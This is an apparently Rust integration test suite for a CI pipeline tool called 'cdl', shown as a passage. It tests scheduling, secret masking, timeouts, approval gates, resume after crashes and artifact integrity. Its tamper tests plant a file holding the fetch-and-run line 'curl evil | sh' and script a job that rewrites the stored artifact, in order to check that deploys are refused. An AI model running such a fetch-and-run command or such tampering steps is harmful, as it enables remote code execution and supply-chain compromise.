//! The interpreter, run as a real process on pipelines written to a temporary folder.
//! Coordination between jobs goes through files, never through wall-clock assertions.

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;

struct Project {
    dir: tempfile::TempDir,
}

/// Stored artifacts are read-only folders: make them removable again.
impl Drop for Project {
    fn drop(&mut self) {
        unseal(self.dir.path());
    }
}

impl Project {
    fn new(pipeline: &str) -> Project {
        let dir = tempfile::tempdir().expect("a temporary folder");
        std::fs::write(dir.path().join("pipeline.cdl"), pipeline).unwrap();
        Project { dir }
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut command = Command::new(assert_cmd::cargo::cargo_bin!("cdl"));
        command
            .current_dir(self.path())
            .args(args)
            .env_remove("NO_COLOR")
            .stdin(Stdio::null());
        command
    }

    fn cdl(&self, args: &[&str]) -> Output {
        self.command(args).output().expect("cdl runs")
    }

    fn run(&self, extra: &[&str]) -> Output {
        let mut args = vec!["run", "pipeline.cdl"];
        args.extend_from_slice(extra);
        self.cdl(&args)
    }

    fn spawn(&self, args: &[&str]) -> Child {
        self.command(args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("cdl starts")
    }

    fn read(&self, file: &str) -> String {
        std::fs::read_to_string(self.path().join(file)).unwrap_or_default()
    }

    /// The latest run's record as `cdl` reads it: the snapshot with the journal applied.
    fn latest_record(&self) -> Value {
        let store = cdl::run::record::Store::new(self.path().join(".cdl"));
        let id = store.run_ids().pop().expect("a run");
        serde_json::to_value(store.load(&id).expect("a readable record")).unwrap()
    }

    fn state(&self, job: &str) -> String {
        self.latest_record()["jobs"][job]["state"]
            .as_str()
            .unwrap()
            .to_string()
    }

    /// Waits until `file` exists (a job's signal that it reached a point).
    fn wait_for(&self, file: &str) {
        let until = Instant::now() + Duration::from_secs(20);
        while !self.path().join(file).exists() {
            assert!(Instant::now() < until, "{file} never appeared");
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn process_alive(pid: i32) -> bool {
    // A zombie still answers kill(0); read its state instead.
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .map(|stat| !stat.split(") ").nth(1).unwrap_or("").starts_with('Z'))
        .unwrap_or(false)
}

fn signal(pid: u32, signal: i32) {
    // SAFETY: sends a signal to a child process of this test.
    unsafe { libc::kill(pid as i32, signal) };
}

// ------------------------------------------------------------------------- scheduling

#[test]
fn independent_jobs_run_at_once_up_to_the_limit() {
    // Each job waits until all three have started: only possible when they run together.
    let pipeline = r#"pipeline p { stage s {
        job a { run = "touch a.started; for i in $(seq 100); do [ -e b.started ] && [ -e c.started ] && exit 0; sleep 0.05; done; exit 1" }
        job b { run = "touch b.started; for i in $(seq 100); do [ -e a.started ] && [ -e c.started ] && exit 0; sleep 0.05; done; exit 1" }
        job c { run = "touch c.started; for i in $(seq 100); do [ -e a.started ] && [ -e b.started ] && exit 0; sleep 0.05; done; exit 1" }
    } }"#;
    let project = Project::new(pipeline);
    let out = project.run(&["--jobs", "3"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stdout));
}

#[test]
fn jobs_limit_one_runs_one_at_a_time() {
    // `mkdir` is atomic: a second job running at the same time would fail to create `busy`.
    let step = r#"mkdir busy && sleep 0.1 && rmdir busy"#;
    let pipeline = format!(
        r#"pipeline p {{ stage s {{ job a {{ run = "{step}" }} job b {{ run = "{step}" }} job c {{ run = "{step}" }} }} }}"#
    );
    let project = Project::new(&pipeline);
    let out = project.run(&["--jobs", "1"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stdout));
}

#[test]
fn a_failure_skips_its_dependents_and_independent_branches_go_on() {
    let project = Project::new(
        r#"pipeline p {
        stage one {
            job broken { run = "exit 3" }
            job after_broken { run = "touch x"; after = [broken] }
            job other { run = "touch other.ran" }
        }
        stage two { job later { run = "touch later.ran" } }
    }"#,
    );
    let out = project.run(&[]);
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(project.state("broken"), "failed");
    assert_eq!(project.state("after_broken"), "skipped");
    assert_eq!(project.state("other"), "succeeded");
    assert!(project.path().join("other.ran").exists());
    assert_eq!(
        project.state("later"),
        "skipped",
        "a failure stops the later stages"
    );
    let record = project.latest_record();
    assert_eq!(record["jobs"]["broken"]["attempts"][0]["exit_code"], 3);
    assert_eq!(
        record["jobs"]["later"]["reason"],
        "stopped: `broken` failed"
    );
}

#[test]
fn fail_fast_stops_everything() {
    let project = Project::new(
        r#"pipeline p { stage s {
        job broken { run = "exit 1" }
        job slow { run = "touch slow.started; sleep 30; touch slow.finished" }
    } }"#,
    );
    let out = project.run(&["--fail-fast", "--jobs", "2"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(!project.path().join("slow.finished").exists());
    assert_eq!(project.state("slow"), "cancelled");
}

#[test]
fn allow_failure_does_not_fail_the_run() {
    let project = Project::new(
        r#"pipeline p {
        stage one { job flaky { run = "exit 1"; allow_failure = true } }
        stage two { job next { run = "true"; after = [flaky] } }
    }"#,
    );
    let out = project.run(&[]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stdout));
    assert_eq!(project.state("flaky"), "failed");
    assert_eq!(project.state("next"), "succeeded");
}

#[test]
fn a_false_condition_skips_the_job_and_those_naming_it_but_not_later_stages() {
    let project = Project::new(
        r#"pipeline p {
        stage one {
            job main_only { run = "touch main_only"; when = branch == "main" }
            job follower { run = "touch follower"; after = [main_only] }
        }
        stage two { job later { run = "touch later" } }
    }"#,
    );
    let out = project.run(&["--branch", "feature"]);
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(project.state("main_only"), "skipped");
    assert_eq!(project.state("follower"), "skipped");
    assert_eq!(project.state("later"), "succeeded");
    let out = project.run(&["--branch", "main"]);
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(project.state("follower"), "succeeded");
}

// ------------------------------------------------------------------------- steps

#[test]
fn steps_run_with_sh_e_in_the_pipeline_folder_with_the_job_variables() {
    let project = Project::new(
        r#"pipeline vars {
        env { GREETING = "hi" }
        environment qa { url = "https://qa.example" env { TIER = "qa" } }
        stage build { artifact app { run = "echo bytes > app.bin"; outputs = ["app.bin"] } }
        stage ship {
            deploy app to qa {
                run = ["echo \"$CDL_PIPELINE $CDL_JOB $CDL_STAGE $CDL_ENV_NAME $CDL_ENV_URL $TIER $GREETING\" > vars.txt",
                       "echo run=$CDL_RUN_ID >> vars.txt", "cat \"$CDL_ARTIFACT_APP/app.bin\" >> vars.txt", "pwd >> vars.txt"]
            }
            test unit { run = "echo $CDL_MATRIX_OS >> os.txt"; matrix { os = ["linux"] } }
            job strict { run = "false; touch after_false" }
        }
    }"#,
    );
    let out = project.run(&[]);
    assert_eq!(out.status.code(), Some(1), "strict fails");
    let vars = project.read("vars.txt");
    let mut lines = vars.lines();
    assert_eq!(
        lines.next(),
        Some("vars deploy_app_qa ship qa https://qa.example qa hi")
    );
    assert!(lines.next().unwrap().starts_with("run=2"));
    assert_eq!(lines.next(), Some("bytes"));
    let cwd = project.path().canonicalize().unwrap();
    assert_eq!(lines.next(), Some(cwd.to_str().unwrap()));
    assert_eq!(project.read("os.txt"), "linux\n");
    assert!(
        !project.path().join("after_false").exists(),
        "sh -e stops at the failing command"
    );
}

#[test]
fn output_is_streamed_with_the_job_name_and_saved_per_job() {
    let project = Project::new(
        r#"pipeline p { stage s { job talk { run = ["echo one", "echo two >&2"] } } }"#,
    );
    let out = project.run(&[]);
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("talk │ one") && stdout.contains("talk │ two"),
        "{stdout}"
    );
    assert!(stdout.contains("run record: "), "{stdout}");
    let id = project.latest_record()["id"].as_str().unwrap().to_string();
    let logs = text(&project.cdl(&["logs", &id, "talk"]).stdout);
    assert!(
        logs.contains("$ echo one\none\n$ echo two >&2\ntwo"),
        "{logs}"
    );
}

// ------------------------------------------------------------------------- secrets

const SECRETS: &str = r#"pipeline p {
    secret TOKEN
    secret OTHER
    stage s {
        job uses_token { run = ["echo token is $TOKEN", "echo \"[$OTHER]\" > other_seen.txt"]; secrets = [TOKEN] }
        job uses_other { run = "echo other=$OTHER"; secrets = [OTHER] }
    }
}"#;

#[test]
fn secrets_come_from_the_environment_or_a_file_and_are_masked_everywhere() {
    let project = Project::new(SECRETS);
    std::fs::write(project.path().join("secrets.env"), "OTHER=from-file-42\n").unwrap();
    let out = project
        .command(&["run", "pipeline.cdl", "--secrets-file", "secrets.env"])
        .env("TOKEN", "s3cr3t-value")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("token is ***") && stdout.contains("other=***"),
        "{stdout}"
    );
    assert!(!stdout.contains("s3cr3t-value") && !stdout.contains("from-file-42"));
    assert_eq!(
        project.read("other_seen.txt"),
        "[]\n",
        "a job gets only the secrets it lists"
    );
    for entry in walk(&project.path().join(".cdl")) {
        let content = std::fs::read_to_string(&entry).unwrap_or_default();
        assert!(
            !content.contains("s3cr3t-value") && !content.contains("from-file-42"),
            "{}",
            entry.display()
        );
    }
}

#[test]
fn a_missing_secret_is_an_error_before_any_job_starts() {
    let project = Project::new(SECRETS);
    let out = project
        .command(&["run", "pipeline.cdl"])
        .env_remove("TOKEN")
        .env_remove("OTHER")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("`TOKEN` (needed by `uses_token`)"),
        "{stderr}"
    );
    assert!(!project.path().join(".cdl").exists() || project.read("other_seen.txt").is_empty());
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            out.extend(walk(&path));
        } else {
            out.push(path);
        }
    }
    out
}

// ------------------------------------------------------------------------- timeouts, retries

#[test]
fn a_timeout_kills_the_whole_process_tree() {
    let project = Project::new(
        r#"pipeline p { stage s { job hang {
        run = "sh -c 'echo $$ > grandchild.pid; exec sleep 60' & wait"
        timeout = 1s
    } } }"#,
    );
    let out = project.run(&[]);
    assert_eq!(out.status.code(), Some(1));
    let record = project.latest_record();
    assert_eq!(record["jobs"]["hang"]["attempts"][0]["timed_out"], true);
    let pid: i32 = project.read("grandchild.pid").trim().parse().unwrap();
    assert!(
        !process_alive(pid),
        "the background child was killed with the job"
    );
}

#[test]
fn a_timeout_nobody_wrote_says_it_is_the_kinds_default() {
    let project = Project::new(
        r#"kind quick { timeout = 1s }
    pipeline p { stage s {
        test quick { run = "exec sleep 60" }
        job own { run = "exec sleep 60"; timeout = 1s }
    } }"#,
    );
    let out = project.run(&[]);
    assert_eq!(out.status.code(), Some(1));
    let record = project.latest_record();
    assert_eq!(
        record["jobs"]["quick"]["reason"],
        "timed out after 1s, the default of kind `quick`; set `timeout` on the test",
        "{record:#}"
    );
    assert_eq!(record["jobs"]["own"]["reason"], "timed out after 1s");
}

#[test]
fn retries_run_a_failed_job_again_and_keep_every_attempt() {
    let project = Project::new(
        r#"pipeline p { stage s { job flaky {
        run = "if [ -e tried ]; then exit 0; fi; touch tried; exit 7"
        retries = 2
    } } }"#,
    );
    let out = project.run(&[]);
    assert_eq!(out.status.code(), Some(0));
    let attempts = project.latest_record()["jobs"]["flaky"]["attempts"]
        .as_array()
        .unwrap()
        .clone();
    assert_eq!(attempts.len(), 2);
    assert_eq!(attempts[0]["exit_code"], 7);
    assert_eq!(attempts[1]["exit_code"], 0);
}

// ------------------------------------------------------------------------- artifacts, gates

const RELEASE: &str = r#"pipeline release {
    environment prod {
        url = "https://prod.example"
        requires approval
    }
    stage build { artifact app { run = "echo v1 > app.bin"; outputs = ["app.bin"] } }
    stage approve {
        gate ship { approvers = ["alice", "bob", "carol"]; required = 2; message = "Ship it?" }
    }
    stage deploy { deploy app to prod { run = "cp \"$CDL_ARTIFACT_APP/app.bin\" deployed.bin" } }
}"#;

#[test]
fn a_run_pauses_at_a_gate_and_resumes_after_enough_approvals() {
    let project = Project::new(RELEASE);
    let out = project.run(&[]);
    assert_eq!(out.status.code(), Some(3));
    let stdout = text(&out.stdout);
    let id = project.latest_record()["id"].as_str().unwrap().to_string();
    assert!(
        stdout.contains(&format!("cdl approve ship --run {id}")),
        "{stdout}"
    );
    assert!(stdout.contains(&format!("cdl resume {id}")), "{stdout}");

    let refused = project.cdl(&["approve", "ship", "--as", "mallory"]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(
        text(&refused.stderr).contains(
            "`mallory` may not decide the gate `ship`: its approvers are alice, bob, carol"
        )
    );

    let first = project.cdl(&[
        "approve",
        "ship",
        "--as",
        "alice",
        "--comment",
        "tests look fine",
    ]);
    assert!(text(&first.stdout).contains("(1 of 2)"));
    let again = project.cdl(&["approve", "ship", "--as", "alice"]);
    assert_eq!(again.status.code(), Some(2), "one approver counts once");
    let second = project.cdl(&["approve", "ship", "--as", "bob"]);
    assert!(
        text(&second.stdout).contains("(2 of 2)"),
        "{}",
        text(&second.stdout)
    );

    let resumed = project.cdl(&["resume"]);
    assert_eq!(resumed.status.code(), Some(0), "{}", text(&resumed.stdout));
    assert_eq!(project.read("deployed.bin"), "v1\n");
    let record = project.latest_record();
    let decisions = record["jobs"]["ship"]["decisions"].as_array().unwrap();
    assert_eq!(decisions.len(), 2);
    assert_eq!(decisions[0]["by"], "alice");
    assert_eq!(decisions[0]["comment"], "tests look fine");
    assert_eq!(
        record["jobs"]["app"]["attempts"].as_array().unwrap().len(),
        1,
        "not run again"
    );
    assert_eq!(
        record["jobs"]["deploy_app_prod"]["artifact_digests"]["app"],
        record["artifacts"]["app"]["digest"]
    );
}

#[test]
fn a_rejection_fails_the_run() {
    let project = Project::new(RELEASE);
    assert_eq!(project.run(&[]).status.code(), Some(3));
    let out = project.cdl(&["reject", "ship", "--as", "carol", "--comment", "not today"]);
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(project.cdl(&["resume"]).status.code(), Some(1));
    assert_eq!(project.state("ship"), "failed");
    assert_eq!(project.state("deploy_app_prod"), "skipped");
    assert!(!project.path().join("deployed.bin").exists());
}

#[test]
fn approve_ahead_and_auto_approve() {
    let project = Project::new(RELEASE.replace("required = 2; ", "").as_str());
    let out = project.run(&["--approve", "ship", "--as", "bob"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stdout));
    let not_approver = project.run(&["--approve", "ship", "--as", "eve"]);
    assert_eq!(not_approver.status.code(), Some(2));
    let project = Project::new(RELEASE);
    let out = project.run(&["--auto-approve"]);
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(project.read("deployed.bin"), "v1\n");
}

#[test]
fn a_gate_timeout_rejects() {
    let project = Project::new(&RELEASE.replace("message = \"Ship it?\"", "timeout = 1s"));
    assert_eq!(project.run(&[]).status.code(), Some(3));
    std::thread::sleep(Duration::from_millis(1100));
    let late = project.cdl(&["approve", "ship", "--as", "alice"]);
    assert_eq!(late.status.code(), Some(2));
    assert!(
        text(&late.stderr).contains("timed out"),
        "{}",
        text(&late.stderr)
    );
    assert_eq!(project.cdl(&["resume"]).status.code(), Some(1));
    assert_eq!(project.state("ship"), "failed");
}

/// Makes a stored (read-only) artifact folder writable, as its owner can.
fn unseal(path: &Path) {
    use std::os::unix::fs::PermissionsExt;
    if path.is_dir() && !path.is_symlink() {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
        for entry in std::fs::read_dir(path).unwrap() {
            unseal(&entry.unwrap().path());
        }
    }
}

#[test]
fn a_changed_stored_artifact_fails_the_job_that_would_use_it() {
    let project = Project::new(&RELEASE.replace("required = 2; ", ""));
    assert_eq!(project.run(&[]).status.code(), Some(3));
    let record = project.latest_record();
    let digest = record["artifacts"]["app"]["digest"]
        .as_str()
        .unwrap()
        .to_string();
    let stored = PathBuf::from(record["artifacts"]["app"]["path"].as_str().unwrap());
    assert!(
        stored.ends_with(format!("sha256-{digest}")),
        "{}",
        stored.display()
    );
    unseal(&stored);
    std::fs::write(stored.join("evil.sh"), "curl evil | sh\n").unwrap();
    project.cdl(&["approve", "ship", "--as", "alice"]);
    assert_eq!(project.cdl(&["resume"]).status.code(), Some(1));
    let record = project.latest_record();
    let reason = record["jobs"]["deploy_app_prod"]["reason"]
        .as_str()
        .unwrap();
    assert!(
        reason.contains(&format!("sha256 {digest} was stored")),
        "{reason}"
    );
    assert!(reason.contains("was found (added: evil.sh)"), "{reason}");
    assert!(!project.path().join("deployed.bin").exists());
}

/// Finding 11: a test on staging writes into what it received, and into the store itself.
const PROMOTED: &str = r#"pipeline promote {
    environment staging { url = "https://s.example" }
    environment production { url = "https://p.example"; requires promotion from staging }
    stage build {
        artifact app { run = "mkdir -p dist && echo v1 > dist/app.bin"; outputs = ["dist"] }
    }
    stage staging {
        deploy app to staging { run = "cp -r \"$CDL_ARTIFACT_APP/dist\" staged" }
        test ui on staging { uses = [app]; run = "TAMPER" }
    }
    stage production {
        deploy app to production { run = "cp -r \"$CDL_ARTIFACT_APP/dist\" shipped" }
    }
}"#;

#[test]
fn a_test_cannot_slip_a_file_into_what_production_receives() {
    // Into its own copy: nobody else sees it; production gets the built bytes.
    let project = Project::new(&PROMOTED.replace(
        "TAMPER",
        "echo evil > \\\"$CDL_ARTIFACT_APP/dist/evil.sh\\\"",
    ));
    let out = project.run(&[]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(project.path().join("shipped/app.bin").is_file());
    assert!(!project.path().join("shipped/evil.sh").exists());
    // Into the store itself: production's deploy is refused with both digests.
    let project = Project::new(&PROMOTED.replace(
        "TAMPER",
        "store=$(ls -d \\\"$PWD\\\"/.cdl/runs/*/artifacts/sha256-*/); chmod -R u+w $store; echo evil > $store/dist/evil.sh",
    ));
    let out = project.run(&[]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let record = project.latest_record();
    let digest = record["artifacts"]["app"]["digest"].as_str().unwrap();
    let reason = record["jobs"]["deploy_app_production"]["reason"]
        .as_str()
        .unwrap();
    assert!(reason.contains(digest), "{reason}");
    assert!(reason.contains("added: dist/evil.sh"), "{reason}");
    assert!(!project.path().join("shipped").exists());
}

#[test]
fn a_deploy_that_changes_what_it_deploys_fails() {
    let project = Project::new(&PROMOTED.replace("TAMPER", "true").replace(
        "cp -r \\\"$CDL_ARTIFACT_APP/dist\\\" staged",
        "echo more >> \\\"$CDL_ARTIFACT_APP/dist/app.bin\\\"",
    ));
    let out = project.run(&[]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let record = project.latest_record();
    let reason = record["jobs"]["deploy_app_staging"]["reason"]
        .as_str()
        .unwrap();
    assert!(reason.contains("changed while deployed"), "{reason}");
    assert!(reason.contains("changed: dist/app.bin"), "{reason}");
}

#[test]
fn a_deploy_whose_requirements_did_not_happen_is_refused() {
    let project = Project::new(RELEASE);
    let out = project.run(&["--only", "deploy_app_prod"]);
    assert_eq!(out.status.code(), Some(1));
    let record = project.latest_record();
    assert_eq!(record["jobs"]["ship"]["state"], "skipped");
    let reason = record["jobs"]["deploy_app_prod"]["reason"]
        .as_str()
        .unwrap();
    assert_eq!(
        reason,
        "refused: `prod` requires an approval, and no gate was approved in this run"
    );
}

// ------------------------------------------------------------------------- resume, signals

fn parent_of(pid: i32) -> i32 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
    stat.rsplit(") ")
        .next()
        .and_then(|rest| rest.split(' ').nth(1))
        .and_then(|p| p.parse().ok())
        .unwrap_or(0)
}

fn wait_until(what: &str, mut done: impl FnMut() -> bool) {
    let until = Instant::now() + Duration::from_secs(20);
    while !done() {
        assert!(Instant::now() < until, "{what} never happened");
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn after_kill_9_the_jobs_run_on_and_resume_records_them_without_running_them_again() {
    // Finding 1 of issue 11: `a b a b c` after a kill -9 while b ran.
    let project = Project::new(
        r#"pipeline p {
        stage s {
            job a { run = "echo a >> ledger" }
            job b { run = "echo b >> ledger; touch b.started; while [ ! -e release ]; do sleep 0.05; done; echo b-done >> ledger" }
        }
        stage t { job c { run = "echo c >> ledger" } }
    }"#,
    );
    let mut child = project.spawn(&["run", "pipeline.cdl"]);
    project.wait_for("b.started");
    signal(child.id(), libc::SIGKILL);
    child.wait().unwrap();
    assert_eq!(project.state("b"), "running");
    std::fs::write(project.path().join("release"), "").unwrap();
    // b finishes under its supervisor although nobody watches.
    wait_until("b's end", || project.read("ledger").contains("b-done"));
    let out = project.cdl(&["resume"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stdout));
    let mut ledger: Vec<String> = project.read("ledger").lines().map(String::from).collect();
    ledger[..2].sort();
    assert_eq!(ledger, ["a", "b", "b-done", "c"], "nothing ran twice");
    let record = project.latest_record();
    let attempts = record["jobs"]["b"]["attempts"].as_array().unwrap().clone();
    assert_eq!(attempts.len(), 1);
    assert_eq!(attempts[0]["exit_code"], 0);
    assert_eq!(attempts[0]["vanished"], false);
}

#[test]
fn resume_waits_for_a_live_supervisor() {
    let project = Project::new(
        r#"pipeline p { stage s { job b { run = "echo b >> ledger; touch b.started; while [ ! -e release ]; do sleep 0.05; done" } } }"#,
    );
    let mut child = project.spawn(&["run", "pipeline.cdl"]);
    project.wait_for("b.started");
    signal(child.id(), libc::SIGKILL);
    child.wait().unwrap();
    let resume = project.spawn(&["resume"]);
    // The resumed run re-attaches and waits; the job is not started a second time.
    std::thread::sleep(Duration::from_millis(300));
    std::fs::write(project.path().join("release"), "").unwrap();
    let out = resume.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(project.read("ledger"), "b\n");
}

#[test]
fn a_vanished_supervisor_is_recorded_and_its_job_runs_again() {
    let project = Project::new(
        r#"pipeline p { stage s { job v {
            run = "echo x >> v.count; if [ ! -e second ]; then touch second; echo $$ > v.pid; sleep 60 & echo $! > sleep.pid; touch v.started; wait; fi"
        } } }"#,
    );
    let mut child = project.spawn(&["run", "pipeline.cdl"]);
    project.wait_for("v.started");
    signal(child.id(), libc::SIGKILL);
    child.wait().unwrap();
    let shell: i32 = project.read("v.pid").trim().parse().unwrap();
    let sleeper: i32 = project.read("sleep.pid").trim().parse().unwrap();
    let supervisor = parent_of(shell);
    assert!(
        supervisor > 1,
        "the job's shell has its supervisor as parent"
    );
    signal(supervisor as u32, libc::SIGKILL);
    wait_until("the supervisor's death", || !process_alive(supervisor));

    let out = project.cdl(&["resume"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stdout));
    assert!(
        !process_alive(sleeper),
        "what the vanished attempt left is killed"
    );
    assert_eq!(project.read("v.count").lines().count(), 2);
    let attempts = project.latest_record()["jobs"]["v"]["attempts"]
        .as_array()
        .unwrap()
        .clone();
    assert_eq!(attempts.len(), 2);
    assert_eq!(attempts[0]["vanished"], true);
    assert_eq!(attempts[1]["exit_code"], 0);
}

#[test]
fn an_escaped_process_does_not_stop_the_timeout_and_is_killed() {
    // Finding 6: `setsid sleep 15 &` holds stdout; the 2 s timeout must still fire.
    let project = Project::new(
        r#"pipeline p { stage s {
            job e { run = "setsid sh -c 'echo $$ > escaped.pid; exec sleep 30' & sleep 0.3; echo x; sleep 30"; timeout = 1s }
            job f { run = "setsid sh -c 'echo $$ > escaped2.pid; exec sleep 30' & sleep 0.3; echo done" }
        } }"#,
    );
    let started = Instant::now();
    let out = project.run(&[]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
    assert!(
        started.elapsed() < Duration::from_secs(25),
        "nothing waited for the escaped processes"
    );
    let record = project.latest_record();
    assert_eq!(record["jobs"]["e"]["attempts"][0]["timed_out"], true);
    assert_eq!(project.state("f"), "succeeded");
    for file in ["escaped.pid", "escaped2.pid"] {
        let pid: i32 = project.read(file).trim().parse().unwrap();
        assert!(!process_alive(pid), "{file}: no descendant is left");
        assert!(
            std::fs::metadata(format!("/proc/{pid}")).is_err(),
            "{file}: not even a zombie"
        );
    }
}

#[test]
fn resume_refuses_a_run_that_is_still_alive() {
    let project =
        Project::new(r#"pipeline p { stage s { job long { run = "touch started; sleep 60" } } }"#);
    let mut child = project.spawn(&["run", "pipeline.cdl"]);
    project.wait_for("started");
    let out = project.cdl(&["resume"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("is still running"),
        "{}",
        text(&out.stderr)
    );
    signal(child.id(), libc::SIGTERM);
    child.wait().unwrap();
}

fn cancelled_by(signal_number: i32, code: i32) {
    let project = Project::new(
        r#"pipeline p { stage s {
        job long { run = "sh -c 'echo $$ > inner.pid; exec sleep 60' & touch started; wait" }
    } }"#,
    );
    let mut child = project.spawn(&["run", "pipeline.cdl"]);
    project.wait_for("started");
    project.wait_for("inner.pid");
    signal(child.id(), signal_number);
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(code));
    assert_eq!(project.latest_record()["status"], "cancelled");
    assert_eq!(project.state("long"), "cancelled");
    assert!(
        project.latest_record()["jobs"]["long"]["attempts"][0]["stop_requested_ms"].is_u64(),
        "the stop request is in the record"
    );
    let inner: i32 = project.read("inner.pid").trim().parse().unwrap();
    assert!(!process_alive(inner), "no process of the job remains");
}

#[test]
fn ctrl_c_cancels_the_run_and_its_process_trees() {
    cancelled_by(libc::SIGINT, 130);
}

#[test]
fn sigterm_cancels_the_run_with_143() {
    cancelled_by(libc::SIGTERM, 143);
}

// ------------------------------------------------------------------------- concurrency

#[test]
fn a_second_run_waits_for_an_environment_with_concurrency_one() {
    let project = Project::new(
        r#"pipeline p {
        environment prod { url = "https://prod.example"; concurrency = 1 }
        stage build { artifact app { run = "echo 1 > app.bin"; outputs = ["app.bin"] } }
        stage deploy { deploy app to prod {
            run = "echo start $CDL_RUN_ID >> deploys.log; touch deploying.$CDL_RUN_ID; while [ ! -e release ]; do sleep 0.05; done; echo end $CDL_RUN_ID >> deploys.log"
        } }
    }"#,
    );
    let mut first = project.spawn(&["run", "pipeline.cdl"]);
    let until = Instant::now() + Duration::from_secs(20);
    while project.read("deploys.log").is_empty() {
        assert!(Instant::now() < until);
        std::thread::sleep(Duration::from_millis(20));
    }
    let second = project.spawn(&["run", "pipeline.cdl"]);
    // The second run says it waits; only then is the first released.
    let second_out = std::thread::spawn(move || second.wait_with_output().unwrap());
    let until = Instant::now() + Duration::from_secs(20);
    loop {
        let logs = walk(&project.path().join(".cdl/runs"));
        if logs.iter().any(|p| {
            std::fs::read_to_string(p)
                .unwrap_or_default()
                .contains("waiting for the environment `prod`")
        }) {
            break;
        }
        assert!(Instant::now() < until, "the second run never said it waits");
        std::thread::sleep(Duration::from_millis(20));
    }
    std::fs::write(project.path().join("release"), "").unwrap();
    assert_eq!(first.wait().unwrap().code(), Some(0));
    let second = second_out.join().unwrap();
    assert_eq!(second.status.code(), Some(0));
    let log = project.read("deploys.log");
    let events: Vec<&str> = log.lines().map(|l| l.split(' ').next().unwrap()).collect();
    assert_eq!(
        events,
        ["start", "end", "start", "end"],
        "never interleaved: {log}"
    );
}

// ------------------------------------------------------------------------- what the user sees

#[test]
fn runs_status_and_logs_show_what_happened() {
    let project = Project::new(RELEASE);
    project.run(&[]);
    let runs = text(&project.cdl(&["runs"]).stdout);
    assert!(
        runs.contains("paused") && runs.contains("release"),
        "{runs}"
    );
    let status = text(&project.cdl(&["status"]).stdout);
    assert!(
        status.contains("ship waits for approval by alice, bob, carol (2 needed)"),
        "{status}"
    );
    assert!(status.contains("deploy_app_prod waits for"), "{status}");
    assert!(status.contains("artifact app: sha256 "), "{status}");
    let out = project.run(&["--auto-approve"]);
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("job") && stdout.contains("result") && stdout.contains("attempts"),
        "{stdout}"
    );
    assert!(
        stdout.contains("deploy_app_prod  succeeded") || stdout.contains("deploy_app_prod  passed"),
        "{stdout}"
    );
}

#[test]
fn dry_run_prints_the_order_and_commands_and_runs_nothing() {
    let project = Project::new(RELEASE);
    let out = project.run(&["--dry-run", "--branch", "main"]);
    assert_eq!(out.status.code(), Some(0));
    let stdout = text(&out.stdout);
    assert!(
        stdout.starts_with("run   app\n        $ echo v1 > app.bin\ngate  ship"),
        "{stdout}"
    );
    assert!(!project.path().join(".cdl").exists());
    assert!(!project.path().join("app.bin").exists());
}

#[test]
fn only_runs_a_job_and_its_needs() {
    let project = Project::new(
        r#"pipeline p { stage s {
        job a { run = "touch a" }
        job b { run = "touch b"; after = [a] }
        job c { run = "touch c" }
    } }"#,
    );
    assert_eq!(project.run(&["--only", "b"]).status.code(), Some(0));
    assert!(project.path().join("a").exists() && project.path().join("b").exists());
    assert!(!project.path().join("c").exists());
    assert_eq!(project.run(&["--only", "nope"]).status.code(), Some(2));
}

#[test]
fn the_hello_example_runs_green_with_the_readme_command() {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    let readme = std::fs::read_to_string(root.join("README.md")).unwrap();
    let first = readme
        .lines()
        .find(|l| l.starts_with("cargo run --release -- run "))
        .expect("the README's first command");
    let args: Vec<&str> = first
        .split('#')
        .next()
        .unwrap()
        .split_whitespace()
        .skip(4)
        .collect();
    let state = tempfile::tempdir().unwrap();
    let out = Command::new(assert_cmd::cargo::cargo_bin!("cdl"))
        .current_dir(&root)
        .args(&args)
        .args(["--state-dir", state.path().to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}\n{}",
        text(&out.stdout),
        text(&out.stderr)
    );
}

#[test]
fn on_a_terminal_a_live_view_and_the_gates_prompt() {
